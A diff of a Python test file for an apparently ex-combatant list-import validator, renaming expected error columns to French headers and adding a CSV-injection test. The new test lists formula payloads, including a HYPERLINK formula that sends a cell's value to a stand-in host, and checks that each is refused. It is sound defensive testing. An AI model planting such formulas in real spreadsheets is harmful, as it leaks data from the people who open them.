@@ -64,7 +64,7 @@ def test_a_name_longer_than_its_field_is_refused_in_the_preview(commission_offic
     record = validate(commission_officer, f"{HEADER}\n{'N' * 100_000};Aïssata;F;1990;Gao;MN-1;;;;\n")
     assert_refused_and_file_deleted(record)
     [error] = record.errors
-    assert (error["line"], error["column"]) == (2, "family_name")
+    assert (error["line"], error["column"]) == (2, "Nom")  # the file's own header
     assert "100000" in error["reason"] and len(error["reason"]) < 300
     assert not Combatant.objects.exists()
 
@@ -76,7 +76,7 @@ def test_a_control_character_is_refused_with_its_line(commission_officer: Any, c
     )
     assert_refused_and_file_deleted(record)
     [error] = record.errors
-    assert (error["line"], error["column"]) == (3, "family_name")
+    assert (error["line"], error["column"]) == (3, "Nom")
     assert f"U+{ord(control):04X}" in error["reason"]
 
 
@@ -94,7 +94,7 @@ def test_errors_are_capped_with_their_total_paged_and_downloadable(
     assert len(record.errors) == settings.DDR_IMPORT_MAX_ERRORS == 1000
     assert record.error_count == 5000
     page = commission_client.get(reverse("ddr:import-detail", args=[record.pk])).content.decode()
-    assert page.count("<td>given_name</td>") + page.count("<td>sex</td>") == 50
+    assert page.count("<td>Prénom</td>") + page.count("<td>Sexe</td>") == 50
     counted = digits(page[page.index('data-testid="error-count"') :].split("</p>")[0])
     assert "5000" in counted and "1000" in counted and "?page=2" in page
     assert "<td>1001</td>" not in page
@@ -111,7 +111,7 @@ def test_an_unexpected_failure_ends_the_job_failed_and_deletes_the_file(
     def broken(*args: Any, **kwargs: Any) -> Any:
         raise RuntimeError("disk gone")
 
-    monkeypatch.setattr(lists, "parse_list_file", broken)
+    monkeypatch.setattr(lists, "check_list_file", broken)
     record = start(commission_officer, V1)
     stored = record.file.name
     with pytest.raises(RuntimeError):
@@ -136,3 +136,29 @@ def test_an_oversized_list_is_refused_before_it_is_stored(commission_client: Any
     response = commission_client.post(reverse("ddr:import-new"), _form(V1 * 10))
     assert response.status_code == 400 and "0.001" in response.content.decode()
     assert not ListImport.objects.exists()
+
+
+@pytest.mark.parametrize("formula", ["=1+1", '=HYPERLINK("http://x.example/?q="&A1;"Cliquez")', "@SUM(A1)"])
+def test_a_formula_cell_is_one_error_named_by_the_files_header(commission_officer: Any, formula: str) -> None:
+    """CSV injection: a formula in any column is refused once, under the column's own header, and
+    nothing else is said of that cell (no "required value missing", no "unknown region" after it)."""
+    from ddr.lists.parse import TEMPLATE
+
+    headers = [header for _column, header, _example in TEMPLATE]
+
+    def line(n: int, formula_in: int | None = None) -> str:
+        cells = [example for _column, _header, example in TEMPLATE]
+        cells[headers.index("Matricule")] = f"M-{n}"
+        cells[headers.index("Numéro de pièce")] = f"NINA-{n}"
+        cells[headers.index("Numéro de série")] = f"AK-{n}"
+        if formula_in is not None:
+            cells[formula_in] = formula.replace(";", ",")
+        return ";".join(f'"{c}"' if '"' in c else c for c in (c.replace('"', '""') for c in cells))
+
+    rows = [line(0)] + [line(i + 1, formula_in=i) for i in range(len(headers))]
+    record = validate(commission_officer, ";".join(headers) + "\n" + "\n".join(rows) + "\n")
+    assert_refused_and_file_deleted(record)
+    found = [(e["line"], e["column"]) for e in record.errors]
+    assert found == [(i + 3, header) for i, header in enumerate(headers)]  # one a cell, in its header
+    assert record.error_count == len(headers)
+    assert [e for e in record.errors if "formule" not in e["reason"]] == []  # said as a formula
